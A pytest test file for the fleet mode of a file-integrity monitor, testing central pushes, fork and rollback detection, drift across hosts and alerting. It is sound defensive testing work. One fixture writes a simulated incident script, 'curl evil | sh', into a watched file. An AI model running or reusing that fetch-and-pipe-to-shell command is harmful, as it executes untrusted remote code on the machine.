"""Fleets: hosts push into one real PostgreSQL; what only the central copy can see.

Each test gets a fresh central database in the session's private cluster and hosts
made of a tree, a policy with [fleet], a local SQLite database and a login role of
their own (tests/fleethosts.py). Everything is driven through the CLI and checked
with plain SQL, as an operator (or an attacker) would.
"""

from __future__ import annotations

import json
import signal
import time
from pathlib import Path
from typing import Any

import pytest

from conftest import rows, wait_until
from fleethosts import (Central, Host, edit_and_reseal, edit_entry, flags, make_hosts,
                        rejected)
from test_service import NotifySocket
from integrity.errors import PolicyError
from integrity.policy import parse

pytestmark = pytest.mark.usefixtures("no_leaks")

GENESIS = "0" * 64


# -- [fleet] in the policy ----------------------------------------------------------------

def _policy(fleet: dict[str, Any]) -> Any:
    return parse({"rule": [{"path": "/etc"}], "fleet": fleet}, "p.toml")


@pytest.mark.parametrize("fleet, key, words", [
    ({"url": "postgresql://web1:s3cret@central/integrity"}, "fleet.url", "password"),
    ({"url": "postgresql://web1@central/integrity?password=s3cret"}, "fleet.url",
     "password"),
    ({"url": "postgresql://web1@central:notaport/x"}, "fleet.url", "port"),
    ({"url": "mysql://web1@central/integrity"}, "fleet.url", "postgresql"),
    ({"url": "postgresql+psycopg2://web1@central/x"}, "fleet.url", "psycopg"),
    ({"url": "postgresql://web1@central/x", "host": "web2"}, "fleet.url", "web2"),
    ({"url": "postgresql://central/x", "interval": "0s"}, "fleet.interval", "between"),
    ({"url": "postgresql://central/x", "interval": "soon"}, "fleet.interval", "duration"),
    ({"url": "postgresql://central/x", "password_file": "rel/pass"},
     "fleet.password_file", "absolute"),
    ({"url": "postgresql://central/x", "sslmode": "sometimes"}, "fleet.sslmode", "one of"),
    ({"url": "postgresql://central/x", "host": "web 1"}, "fleet.host", "host name"),
    ({"url": "postgresql://central/x", "colour": "red"}, "fleet.colour", "unknown"),
])
def test_fleet_table_is_validated_naming_the_key(fleet: dict[str, Any], key: str,
                                                  words: str) -> None:
    with pytest.raises(PolicyError) as caught:
        _policy(fleet)
    assert f"p.toml: {key}:" in str(caught.value) and words in str(caught.value)
    assert "s3cret" not in str(caught.value)


def test_fleet_table_defaults() -> None:
    config = _policy({"url": "postgresql://central.example/integrity",
                      "sslmode": "verify-full", "sslrootcert": "/etc/ssl/ca.pem",
                      "password_file": "/etc/integrity/fleet.pass"}).fleet
    assert config.group == "default" and config.interval == 60.0
    assert config.host and config.url.startswith(f"postgresql+psycopg://{config.host}@")
    assert dict(config.tls) == {"sslmode": "verify-full", "sslrootcert": "/etc/ssl/ca.pem"}


# -- pushing -----------------------------------------------------------------------------

def test_three_hosts_push_and_status_shows_each_healthy(central: Central,
                                                         tmp_path: Path) -> None:
    web1, web2 = make_hosts(central, tmp_path, ["web1", "web2"])
    db1, = make_hosts(central, tmp_path, ["db1"], group="db")
    code, data = central.status()
    assert code == 0 and data["healthy"] is True and data["flagged"] == 0
    seen = {h["host"]: h for h in data["hosts"]}
    assert sorted(seen) == ["db1", "web1", "web2"]
    for host in (web1, web2, db1):
        entry = seen[host.name]
        assert entry["group"] == host.group
        assert entry["baseline"]["root"] == host.root()
        assert entry["baseline"]["complete"] is True
        assert entry["baseline"]["entries"] == host.local("SELECT count(*) FROM entry")[0][0]
        assert entry["chain"]["state"] == "ok" and entry["silent"] is False
        assert entry["watcher"] == {"state": None, "alive": False}
    text = central.fleet("status")
    assert text.exit_code == 0 and "3 hosts, 0 flagged" in text.stdout
    assert all(f"{n}  ok" in text.stdout for n in ("web1", "web2", "db1 "))


def test_changes_and_approvals_arrive_as_events_and_baseline_deltas(
        central: Central, tmp_path: Path) -> None:
    web1, = make_hosts(central, tmp_path, ["web1"])
    entries = web1.local("SELECT count(*) FROM entry")[0][0]
    conf = web1.change("etc/app.conf", "listen 8080\n")
    web1.change("etc/new.conf", "new\n")
    assert web1.run("verify").exit_code == 1
    web1.push_ok()
    assert web1.central_events() == web1.local_events()
    assert {e["path"] for e in json.loads(central.fleet(
        "events", "--host", "web1", "--open", "--json").stdout)} == {
            str(conf), str(web1.tree / "etc/new.conf")}
    assert web1.run("approve", str(conf), "--reason", "ticket 1").exit_code == 0
    pushed = web1.push_ok()
    assert "(delta, 1 entries)" in pushed.stdout  # one entry, not the whole baseline
    pushes = central.sql("SELECT kind, changes, generation FROM integrity.baseline "
                         "ORDER BY push")
    assert pushes == [("full", entries, 1), ("delta", 1, 2)]
    state = central.host_status("web1")
    assert state["healthy"] and state["baseline"]["root"] == web1.root()
    assert state["baseline"]["complete"] and state["events"]["open"] == 1
    assert web1.central_events() == web1.local_events()
    current = central.sql("SELECT content FROM integrity.entry WHERE key = %s "
                          "AND superseded IS NULL", str(conf).replace("/", "\0").encode())
    assert current == [(web1.local("SELECT content FROM entry WHERE key = ?",
                                   str(conf).replace("/", "\0").encode())[0][0],)]
    assert web1.central_ledger() == web1.ledger()
    assert flags(central, "web1") == []


def test_unreachable_central_database_keeps_everything_in_the_spool(
        central: Central, tmp_path: Path) -> None:
    web1, = make_hosts(central, tmp_path, ["web1"])
    web1.url = web1.url.replace(str(central.cluster.port), "1")  # nothing listens there
    web1.write_policy()
    web1.change("etc/motd", "changed\n")
    assert web1.run("verify").exit_code == 1
    result = web1.push()
    assert result.exit_code == 2
    assert result.stderr.count("\n") == 1 and "central database" in result.stderr
    assert "Traceback" not in result.output
    assert web1.local("SELECT count(*) FROM fleet_ledger")[0][0] == 1


def test_outage_mid_push_every_event_arrives_exactly_once(central: Central,
                                                          tmp_path: Path) -> None:
    files = {f"etc/f{i:04}": f"{i}\n" for i in range(600)}
    web1, = make_hosts(central, tmp_path, ["web1"], files=files)
    for i in range(600):
        (web1.tree / f"etc/f{i:04}").write_text(f"changed {i}\n")
    assert web1.run("verify").exit_code == 1
    pushing = web1.spawn("fleet", "push", "--batch", "4")

    def some_arrived() -> bool:
        return bool(central.sql("SELECT count(*) FROM integrity.ledger")[0][0])

    wait_until(some_arrived, "the first batches to arrive", 30, interval=0.005)
    central.cluster.stop("fast")
    try:
        _, stderr = pushing.communicate(timeout=30)
        assert pushing.returncode == 2, stderr  # it was cut off mid-push
        assert stderr.count("\n") == 1 and "central database" in stderr
        # The host keeps working while the central database is away.
        web1.change("etc/late.conf", "late\n")
        assert web1.run("verify").exit_code == 1
        assert web1.push().exit_code == 2
    finally:
        central.cluster.start()
    web1.push_ok()
    assert web1.central_events() == web1.local_events()
    assert len(web1.local_events()) == 601
    assert web1.central_ledger() == web1.ledger()
    assert flags(central, "web1") == [] and rejected(central, "web1") == 0


def test_a_push_killed_mid_batch_leaves_no_duplicate(central: Central,
                                                     tmp_path: Path) -> None:
    files = {f"etc/f{i:04}": f"{i}\n" for i in range(600)}
    web1, = make_hosts(central, tmp_path, ["web1"], files=files)
    for i in range(600):
        (web1.tree / f"etc/f{i:04}").write_text(f"changed {i}\n")
    assert web1.run("verify").exit_code == 1
    held = 0
    for _ in range(3):
        pushing = web1.spawn("fleet", "push", "--batch", "10")

        def grew() -> bool:
            return int(central.sql("SELECT count(*) FROM integrity.ledger")[0][0]) > held

        wait_until(grew, "another batch", 30, interval=0.002)
        pushing.send_signal(signal.SIGKILL)
        pushing.communicate(timeout=10)
        held = int(central.sql("SELECT count(*) FROM integrity.ledger")[0][0])
    assert 0 < held < len(web1.ledger())
    web1.push_ok()
    assert web1.central_ledger() == web1.ledger()
    assert web1.central_events() == web1.local_events()
    assert flags(central, "web1") == [] and rejected(central, "web1") == 0


def test_a_batch_sent_again_after_the_central_commit_is_dropped(
        central: Central, tmp_path: Path) -> None:
    """The host dies after the central database committed and before it forgot what
    it sent: simulated exactly by restoring the local database as it was before the
    push. Nothing is duplicated and nothing is flagged."""
    web1, = make_hosts(central, tmp_path, ["web1"])
    web1.change("etc/motd", "changed\n")
    assert web1.run("verify").exit_code == 1
    assert web1.run("approve", str(web1.tree / "etc/motd")).exit_code == 0
    before = tmp_path / "before-push.db"
    web1.snapshot(before)
    web1.push_ok()
    web1.restore(before)
    again = web1.push_ok()
    assert "(already held" in again.stdout
    assert web1.central_ledger() == web1.ledger()
    assert web1.central_events() == web1.local_events()
    assert central.sql("SELECT count(*) FROM integrity.baseline") == [(2,)]
    assert flags(central, "web1") == [] and central.status()[0] == 0


# -- what the central copy sees: rollback, rewritten roots ------------------------------

@pytest.mark.parametrize("then_change", [False, True], ids=["quiet", "new-event"])
def test_a_rolled_back_local_database_is_flagged_forked(
        central: Central, tmp_path: Path, then_change: bool) -> None:
    web1, web2 = make_hosts(central, tmp_path, ["web1", "web2"])
    copy = tmp_path / "web1-monday.db"
    web1.snapshot(copy)
    web1.change("bin/tool", "#!/bin/sh\ncurl evil | sh\n")  # the incident
    assert web1.run("verify").exit_code == 1
    web1.push_ok()
    web1.restore(copy)  # ... and the attacker's cover-up
    if then_change:
        web1.change("etc/motd", "welcome\n")
        assert web1.run("verify").exit_code == 1
    web1.push_ok()
    code, data = central.status()
    assert code == 1 and data["flagged"] == 1
    state = central.host_status("web1")
    assert state["chain"]["state"] == "forked" and not state["healthy"]
    assert any(kind == "forked" and "rolled back" in detail
               for kind, detail in flags(central, "web1"))
    assert central.host_status("web2")["healthy"]
    # The incident stays in the central copy, whatever the host now says.
    incident = [e for e in json.loads(central.fleet("events", "--host", "web1",
                                                     "--json").stdout)
                if e["path"].endswith("bin/tool")]
    assert incident and incident[0]["severity"] == "critical"
    text = central.fleet("status")
    assert text.exit_code == 1 and "FLAGGED" in text.stdout and "forked" in text.stdout


def test_resolving_a_fork_restarts_the_chain_and_resends_the_baseline(
        central: Central, tmp_path: Path) -> None:
    web1, = make_hosts(central, tmp_path, ["web1"])
    copy = tmp_path / "copy.db"
    web1.snapshot(copy)
    web1.change("etc/motd", "x\n")
    web1.run("verify")
    web1.push_ok()
    web1.restore(copy)
    web1.push_ok()
    assert central.host_status("web1")["chain"]["state"] == "forked"
    resolved = central.fleet("resolve", "--host", "web1", "--reason", "restored backup")
    assert resolved.exit_code == 0 and "resolved forked" in resolved.stdout
    web1.push_ok()  # takes the resync request, then sends the baseline whole
    web1.push_ok()
    state = central.host_status("web1")
    assert state["healthy"] and state["chain"]["state"] == "ok"
    assert state["chain"]["epoch"] == 2 and state["baseline"]["complete"]
    web1.change("etc/app.conf", "later\n")
    web1.run("verify")
    web1.push_ok()
    assert central.status()[0] == 0


def test_init_force_spools_one_full_push_not_the_old_entries(
        central: Central, tmp_path: Path) -> None:
    """init deletes the generation it replaces inside its transaction, after taking it
    out of force: the spool's triggers see a new baseline to send whole, not every
    old entry's deletion (a million rows on a big host)."""
    web1, = make_hosts(central, tmp_path, ["web1"])
    [(old_id,)] = rows(web1.db, "SELECT id FROM baseline")
    before = rows(web1.db, "SELECT coalesce(max(seq), 0) FROM fleet_entry")[0][0]
    web1.change("etc/app.conf", "listen 8080\n")
    assert web1.run("init", "--force").exit_code == 0
    [(new_id,)] = rows(web1.db, "SELECT id FROM baseline")
    assert new_id != old_id
    assert rows(web1.db, "SELECT baseline_id, key FROM fleet_entry WHERE seq > ?",
                (before,)) == [(new_id, None)]
    web1.push_ok()
    state = central.host_status("web1")
    assert state["baseline"]["complete"] and state["baseline"]["entries"] == 6, state


@pytest.mark.parametrize("how, kind, words", [
    ("edit-and-reroot", "root", "root changed without an approval"),
    ("edit-and-reseal-as-next-generation", "root", "root changed without an approval"),
    ("edit-only", "root", "without a new root"),
    ("init-force", "replaced", "init --force"),
])
def test_a_baseline_changed_without_an_approval_is_flagged(
        central: Central, tmp_path: Path, how: str, kind: str, words: str) -> None:
    web1, = make_hosts(central, tmp_path, ["web1"])
    if how == "init-force":
        web1.change("bin/tool", "#!/bin/sh\nbackdoor\n")
        assert web1.run("init", "--force").exit_code == 0
    elif how == "edit-only":
        edit_entry(web1)
    else:
        edit_and_reseal(web1, next_generation=how.endswith("generation"))
    web1.push_ok()
    found = flags(central, "web1")
    assert [k for k, _ in found] == [kind], found
    assert words in found[0][1]
    assert central.status()[0] == 1



# -- requests from the admin ---------------------------------------------------------------

def test_an_approval_request_is_applied_at_the_next_push_and_reported(
        central: Central, tmp_path: Path) -> None:
    web1, web2 = make_hosts(central, tmp_path, ["web1", "web2"])
    conf = web1.change("etc/app.conf", "listen 443\n")
    other = web1.change("etc/motd", "other\n")
    web1.run("verify")
    web1.push_ok()
    asked = central.fleet("approve", "--host", "web1", str(conf), "--reason", "TLS move")
    assert asked.exit_code == 0 and "applies it at its next push" in asked.stdout
    assert central.host_status("web1")["requests_pending"] == 1
    pushed = web1.push_ok()
    assert "(approve): applied" in pushed.stdout
    approval = web1.local('SELECT "user", reason, mode FROM approval')
    assert len(approval) == 1 and approval[0][1].startswith("fleet request ")
    assert "TLS move" in approval[0][1] and "postgres" in approval[0][1]
    result = central.sql("SELECT outcome, approval_id, root, detail FROM "
                         "integrity.request_result")
    assert result[0][0] == "applied" and result[0][2] == web1.root()
    assert str(conf) in json.loads(result[0][3])["approved"]
    events = {e["path"]: e["status"] for e in json.loads(
        central.fleet("events", "--host", "web1", "--json").stdout)}
    assert events == {str(conf): "approved", str(other): "open"}
    state = central.host_status("web1")
    assert state["requests_pending"] == 0 and state["healthy"]  # approved: no root flag
    assert state["baseline"]["root"] == web1.root()
    # Answered requests are gone for the host: a second push applies nothing again.
    assert "request" not in web1.push_ok().stdout
    assert len(web1.local("SELECT id FROM approval")) == 1
    assert web2.local("SELECT count(*) FROM approval") == [(0,)]


def test_approval_requests_that_cannot_apply_are_reported_as_failed(
        central: Central, tmp_path: Path) -> None:
    web1, = make_hosts(central, tmp_path, ["web1"])
    assert central.fleet("approve", "--host", "web1", "/not/protected").exit_code == 0
    assert central.fleet("approve", "--host", "nosuch", "--all").exit_code == 2
    assert central.fleet("approve", "--host", "web1").exit_code == 2  # no PATH, no --all
    assert "failed" in web1.push_ok().stdout
    outcome, detail = central.sql("SELECT outcome, detail FROM integrity.request_result")[0]
    assert outcome == "failed" and "/not/protected" in detail


# -- drift across peers ---------------------------------------------------------------------

def _peer(central: Central, tmp_path: Path, name: str, tree: Path, group: str,
          setup: Any = None) -> Host:
    """A host protecting `tree` as it looks on that host (hosts on one machine take
    turns on the same absolute path, as identical images hold the same /usr/bin)."""
    for binary in ("ssh", "ls"):
        (tree / "bin" / binary).write_bytes(b"binary " + binary.encode())
        (tree / "bin" / binary).chmod(0o755)
    (tree / "bin" / "rogue").unlink(missing_ok=True)
    if setup is not None:
        setup(tree / "bin")
    host = Host(central, tmp_path, name, group=group, tree=tree)
    assert host.run("init").exit_code == 0
    host.push_ok()
    return host


def test_drift_names_the_hosts_that_differ_from_their_group(central: Central,
                                                           tmp_path: Path) -> None:
    shared, other = tmp_path / "usr", tmp_path / "srv"
    (shared / "bin").mkdir(parents=True)
    (other / "bin").mkdir(parents=True)
    def web3(bin_: Path) -> None:
        (bin_ / "ls").chmod(0o4755)
        (bin_ / "rogue").write_bytes(b"backdoor")

    changes: dict[str, Any] = {
        "web2": lambda bin_: (bin_ / "ssh").write_bytes(b"trojaned ssh"), "web3": web3}
    for index in range(1, 4):
        _peer(central, tmp_path, f"web{index}", shared, "web", changes.get(f"web{index}"))
    for name in ("db1", "db2"):
        _peer(central, tmp_path, name, other, "db")
    result = central.fleet("drift", "--group", "web", "--json")
    assert result.exit_code == 1
    items = {i["path"]: i for i in json.loads(result.stdout)}
    binary = shared / "bin"
    assert set(items) == {str(binary / n) for n in ("ssh", "ls", "rogue")}
    ssh = items[str(binary / "ssh")]
    assert ssh["majority"]["hosts"] == 2 and ssh["hosts"] == 3
    assert [(o["host"], o["state"], o["changed"]) for o in ssh["outliers"]] == [
        ("web2", "differs", ["content"])]
    ls = items[str(binary / "ls")]
    assert [(o["host"], o["changed"], o["mode"]) for o in ls["outliers"]] == [
        ("web3", ["mode"], "4755")]
    assert ls["majority"]["mode"] == "0755"
    rogue = items[str(binary / "rogue")]
    assert rogue["majority"] == {"absent": True, "hosts": 2}
    assert [(o["host"], o["state"]) for o in rogue["outliers"]] == [("web3", "extra")]
    only_ssh = central.fleet("drift", "--group", "web", str(binary / "ssh"), "--json")
    assert [i["path"] for i in json.loads(only_ssh.stdout)] == [str(binary / "ssh")]
    text = central.fleet("drift", "--group", "web", str(binary))
    assert "web2: content" in text.stdout and "web3: mode" in text.stdout
    assert "3 paths differ, on 2 hosts" in text.stdout
    assert central.fleet("drift", "--group", "db").exit_code == 0
    everyone = json.loads(central.fleet("drift", "--json").stdout)
    assert {i["group"] for i in everyone} == {"web"} and len(everyone) == 3
    assert central.fleet("drift", "--group", "nosuch").exit_code == 2


# -- the monitor: a dead-man's switch ------------------------------------------------------

def _monitor(central: Central, tmp_path: Path, receiver: Any) -> tuple[Path, Path]:
    """A monitor policy: a jsonl file and a webhook (on the loopback receiver)."""
    alerts = tmp_path / "monitor" / "alerts.jsonl"
    policy = tmp_path / "monitor.toml"
    policy.write_text(f'[[rule]]\npath = "{tmp_path}"\n\n[[alert]]\ntype = "jsonl"\n'
                      f'path = "{alerts}"\n\n[[alert]]\ntype = "webhook"\n'
                      f'url = "{receiver.url}"\nmin_severity = "critical"\n')
    return policy, alerts


def _spawn_monitor(central: Central, policy: Path, env: dict[str, str] | None = None
                   ) -> Any:
    import os
    import subprocess
    import sys

    return subprocess.Popen(
        [sys.executable, "-m", "integrity", "--policy", str(policy), "fleet", "monitor",
         "--every", "0.3", "--url", central.url], text=True,
        stdout=subprocess.DEVNULL, stderr=subprocess.PIPE, env={**os.environ, **(env or {})})


def _lines(path: Path) -> list[dict[str, Any]]:
    return [json.loads(line) for line in path.read_text().splitlines()] \
        if path.exists() else []


def test_monitor_alerts_silence_forks_unapproved_roots_and_critical_events_once(
        central: Central, tmp_path: Path, receiver: Any) -> None:
    silent, = make_hosts(central, tmp_path, ["web1"], interval="1s")
    last_push = time.monotonic()
    forked, rooted, critical = make_hosts(central, tmp_path, ["web2", "web3", "db1"])
    copy = tmp_path / "web2.db"
    forked.snapshot(copy)
    forked.change("etc/motd", "x\n")
    forked.run("verify")
    forked.push_ok()
    forked.restore(copy)
    forked.push_ok()
    rooted.change("bin/tool", "#!/bin/sh\nevil\n")
    assert rooted.run("init", "--force").exit_code == 0
    rooted.push_ok()
    critical.change("bin/tool", "#!/bin/sh\nrootkit\n")
    assert critical.run("verify").exit_code == 1
    critical.push_ok()
    # web1's interval is 1 s: three of them without a push make it silent.
    time.sleep(max(0.0, last_push + 3.2 - time.monotonic()))
    code, data = central.status()
    assert code == 1 and data["flagged"] == 3
    assert {h["host"] for h in data["hosts"] if h["silent"]} == {"web1"}
    receiver.status = 503  # the webhook is down at first
    policy, alerts = _monitor(central, tmp_path, receiver)
    monitor = _spawn_monitor(central, policy)
    try:
        wait_until(lambda: len(_lines(alerts)) >= 4, "four alerts in the jsonl file", 20)
        found = {(a.get("host") or a["path"].split(":")[0], a["classification"])
                 for a in _lines(alerts)}
        assert len(_lines(alerts)) == 4
        assert found == {("web1", "fleet-silent"), ("web2", "fleet-forked"),
                         ("web3", "fleet-replaced"), ("db1", "unexplained")}
        event = next(a for a in _lines(alerts) if a["classification"] == "unexplained")
        assert event["severity"] == "critical" and event["path"].startswith("db1:")
        assert event["path"].endswith("bin/tool") and event["host"] == "db1"
        wait_until(lambda: receiver.attempts > 0, "the webhook to be tried", 10)
        assert receiver.bodies == []
        receiver.status = 200
        wait_until(lambda: len(receiver.bodies) == 3, "three critical alerts by webhook",
                   20)  # meanwhile the monitor went round several times: no repeats
        assert len(_lines(alerts)) == 4
        monitor.send_signal(signal.SIGTERM)
        _, stderr = monitor.communicate(timeout=10)
        assert monitor.returncode == 0, stderr
        assert "Traceback" not in stderr
    finally:
        if monitor.poll() is None:
            monitor.kill()
            monitor.communicate()
    # A restart repeats nothing either: after its first round (READY=1 to systemd) and
    # a few more, the files still hold what they held.
    notify = NotifySocket(tmp_path / "notify.sock")
    again = _spawn_monitor(central, policy, {"NOTIFY_SOCKET": str(notify.path)})
    try:
        assert notify.next("READY", 20)["READY"] == "1"
        time.sleep(1.0)
        again.send_signal(signal.SIGTERM)
        assert notify.next("STOPPING", 10)["STOPPING"] == "1"
        again.communicate(timeout=10)
    finally:
        notify.close()
        if again.poll() is None:
            again.kill()
            again.communicate()
    assert again.returncode == 0
    assert len(_lines(alerts)) == 4 and len(receiver.bodies) == 3
    silent.push_ok()  # back: no longer silent (a later silence alerts again)
    assert not central.host_status("web1")["silent"]


# -- the watcher pushes in a thread of its own ---------------------------------------------

def _watch(host: Host) -> Any:
    return host.spawn("watch")


def _stop(process: Any) -> str:
    if process.poll() is None:
        process.send_signal(signal.SIGTERM)
    try:
        _, stderr = process.communicate(timeout=15)
    except Exception:
        process.kill()
        process.communicate()
        raise
    return str(stderr)


def _local_event(host: Host, path: Path) -> bool:
    key = str(path).replace("/", "\0").encode()
    return bool(host.local("SELECT count(*) FROM event WHERE key = ?", key)[0][0])


def test_watch_pushes_every_interval_and_never_waits_for_the_central_database(
        central: Central, tmp_path: Path) -> None:
    web1, = make_hosts(central, tmp_path, ["web1"], interval="1s")
    watcher = _watch(web1)
    try:
        wait_until(lambda: (central.host_status("web1")["watcher"] or {}).get("alive"),
                   "the central status to show web1's watcher alive", 30, interval=0.2)
        first = web1.change("etc/app.conf", "watched\n")
        wait_until(lambda: any(e["path"] == str(first) for e in json.loads(central.fleet(
            "events", "--host", "web1", "--json").stdout)),
            "the realtime event to reach the central database", 15, interval=0.2)
        central.cluster.stop("fast")
        try:
            second = web1.change("etc/motd", "while central is down\n")
            began = time.monotonic()
            wait_until(lambda: _local_event(web1, second), "the local event", 5)
            assert time.monotonic() - began < 4
            time.sleep(2.5)  # pushes are tried, and fail, meanwhile
        finally:
            central.cluster.start()
        wait_until(lambda: any(e["path"] == str(second) for e in json.loads(central.fleet(
            "events", "--host", "web1", "--json").stdout)),
            "the event recorded during the outage to arrive", 20, interval=0.2)
    finally:
        stderr = _stop(watcher)
    assert watcher.returncode == 0, stderr
    assert "Traceback" not in stderr and "fleet push failed" in stderr
    assert web1.central_events() == web1.local_events()
    assert flags(central, "web1") == []


def test_a_central_database_that_never_answers_does_not_hold_the_watcher(
        central: Central, tmp_path: Path) -> None:
    import socket

    hole = socket.socket()
    hole.bind(("127.0.0.1", 0))
    hole.listen(16)  # connections complete, nothing is ever said on them
    try:
        port = hole.getsockname()[1]
        web1 = Host(central, tmp_path, "web1", interval="1s",
                    url=f"postgresql://web1@127.0.0.1:{port}/integrity")
        assert web1.run("init").exit_code == 0
        watcher = _watch(web1)
        try:
            wait_until(lambda: web1.local("SELECT count(*) FROM watcher WHERE state = "
                                          "'running'")[0][0], "the watcher to run", 30)
            changed = web1.change("etc/app.conf", "still watched\n")
            wait_until(lambda: _local_event(web1, changed), "the local event", 5)
            began = time.monotonic()
        finally:
            stderr = _stop(watcher)
        assert watcher.returncode == 0 and time.monotonic() - began < 10, stderr
        assert web1.local("SELECT count(*) FROM fleet_ledger")[0][0] >= 1  # spooled
    finally:
        hole.close()
